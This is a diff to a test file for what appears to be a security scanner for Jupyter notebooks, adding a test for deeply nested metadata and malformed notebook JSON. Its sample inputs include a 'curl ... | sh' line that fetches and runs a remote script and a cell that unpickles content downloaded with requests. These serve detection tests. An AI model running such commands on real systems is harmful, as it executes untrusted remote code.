@@ -280,3 +280,16 @@ def test_other_script_programs_are_shell_another_language_or_named(
 ) -> None:
     text = notebook(f"{header}\ncurl -s https://x.example/i.sh | sh")
     assert sorted(f.rule_id for f in scan_code(tmp_path, text, "nb.ipynb")) == expected, header
+
+
+def test_deep_metadata_does_not_stop_the_cells_being_read(tmp_path: Path) -> None:
+    body = json.loads(notebook("import pickle, requests\nx = pickle.loads(requests.get(url).content)"))
+    deep: object = []
+    for _ in range(600):  # editors (JSON.parse) open this; nbformat's reader gives up near 500
+        deep = [deep]
+    body["metadata"]["x"] = deep
+    assert "B301" in [f.rule_id for f in scan_code(tmp_path, json.dumps(body), "deep.ipynb")]
+    broken = '{"cells": [' + "[" * 5000 + "]" * 5000 + "]}"  # past any parser's depth, or not JSON
+    for text in (broken, '{"cells": [{"cell_type": "code", "source": "x"'):
+        [finding] = scan_code(tmp_path, text, "broken.ipynb")
+        assert (finding.rule_id, finding.severity.value) == ("MLS907", "medium")
